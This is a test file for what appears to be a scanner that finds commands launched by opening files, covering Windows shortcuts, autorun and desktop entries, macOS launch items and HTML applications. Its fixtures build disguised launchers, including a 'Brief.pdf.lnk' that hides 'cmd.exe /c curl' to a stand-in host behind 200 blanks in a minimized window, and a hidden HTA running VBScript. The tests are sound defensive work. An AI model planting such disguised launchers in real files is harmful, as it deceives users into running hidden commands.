import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { formatPlace } from "@doorward/core";
import { readFiles, surfacesOf, tellSettings, tellSurfaces } from "../surfaces.test-support.ts";

const map = (body: string) => `<?xml version="1.0"?><plist version="1.0"><dict>${body}</dict></plist>`;

/** A shortcut to a relative path with arguments, as Windows writes it. */
function makeShortcut(target: string, args: string, show = 1): { readonly base64: string } {
  const header = Buffer.alloc(76);
  header.writeUInt32LE(0x4c, 0);
  header.writeUInt32LE(0x8 | 0x20 | 0x80, 20);
  header.writeUInt32LE(show, 60);
  const parts = [target, args].map((text) => {
    const length = Buffer.alloc(2);
    length.writeUInt16LE(text.length);
    return Buffer.concat([length, Buffer.from(text, "utf16le")]);
  });
  return { base64: Buffer.concat([header, ...parts, Buffer.alloc(4)]).toString("base64") };
}

describe("Windows shortcuts", () => {
  it("reads the command line, the window and arguments behind blanks", () => {
    const files = {
      "Brief.pdf.lnk": makeShortcut(
        "..\\Windows\\System32\\cmd.exe",
        `${" ".repeat(200)}/c curl https://a.example/x`,
        7,
      ),
    };
    const [shortcut] = surfacesOf("desktop", files);
    assert.match(shortcut?.commands[0]?.text ?? "", /^\.\.\\Windows\\System32\\cmd\.exe {201}\/c curl/u);
    assert.deepEqual(shortcut?.concealments, ["hidden", "off-screen"]);
  });

  it("tells bytes that are no shortcut, and a length beyond the end, as not judged", () => {
    const cut = Buffer.from(makeShortcut("a", "b").base64, "base64").subarray(0, 79).toString("base64");
    for (const base64 of ["AAAA", cut])
      assert.deepEqual(
        readFiles({ "a.lnk": { base64 } }).unjudged.map(({ reason }) => reason),
        ["a shortcut that cannot be read"],
      );
  });
});

describe("files that run as they are opened", () => {
  it("tells scripts and programs, and compiled ones as not judged", () => {
    const files = {
      "run.command": "#!/bin/sh\n",
      "setup.exe": { base64: "TVo=" },
      "a.scpt": "FasdUAS 1.101.10",
      "b.scpt": "display dialog 1",
      "docs/x.txt": "",
    };
    assert.deepEqual(tellSurfaces("desktop", files), [
      'double-click launchable "a.scpt" a.scpt',
      'double-click launchable "b.scpt" b.scpt',
      'double-click launchable "run.command" run.command',
      'double-click launchable-program "setup.exe" setup.exe',
    ]);
    assert.deepEqual(
      readFiles(files).unjudged.map(({ path }) => path),
      ["a.scpt"],
    );
  });

  it("reads entries of menus, drives and addresses", () => {
    const entry = {
      "a.desktop": "[Desktop Entry]\nType=Application\nName=Brief\nExec=sh -c 'curl https://a.example/x'\nIcon=text\n",
    };
    assert.deepEqual(tellSurfaces("desktop", entry), [`double-click entry "Exec" sh -c 'curl https://a.example/x'`]);
    const [exec] = surfacesOf("desktop", entry);
    assert.equal(exec && formatPlace(exec.commands[0]?.at ?? exec.at), "a.desktop:4:6");
    assert.deepEqual(
      tellSettings("desktop", { "a.url": "[InternetShortcut]\r\nURL=file://a.example/share/x.exe\r\n" }),
      ["URL = file://a.example/share/x.exe"],
    );
    assert.deepEqual(
      tellSurfaces("desktop", { "autorun.inf": "[autorun]\nopen=x.exe /q\n", "x.exe": { base64: "TVo=" } })[0],
      'double-click entry "open" x.exe /q ; x.exe',
    );
  });

  it("reads profiles, workflows and start entries of macOS", () => {
    assert.deepEqual(
      tellSurfaces("desktop", {
        "a.terminal": map("<key>CommandString</key><string>curl https://a.example/x</string>"),
      }),
      ['double-click entry "CommandString" curl https://a.example/x'],
    );
    assert.deepEqual(
      tellSurfaces("launchd", {
        "a.plist": map("<key>ProgramArguments</key><array><string>sh</string><string>x.sh</string></array>"),
      }),
      ['manual entry "ProgramArguments" sh x.sh'],
    );
    assert.deepEqual(readFiles({ "Info.plist": map("<key>CFBundleName</key><string>App</string>") }).surfaces, []);
  });

  it("takes the programs out of an HTML application", () => {
    const text = '<html><hta:application showintaskbar="no">\n<script language="VBScript">\nRun "x"\n</script></html>';
    const { surfaces, programs } = readFiles({ "a.hta": text });
    assert.deepEqual(surfaces[0]?.concealments, ["hidden"]);
    assert.deepEqual(
      programs.map(({ language, code, lines }) => [language, code, lines[1]?.line]),
      [["vbscript", '\nRun "x"\n', 3]],
    );
  });
});
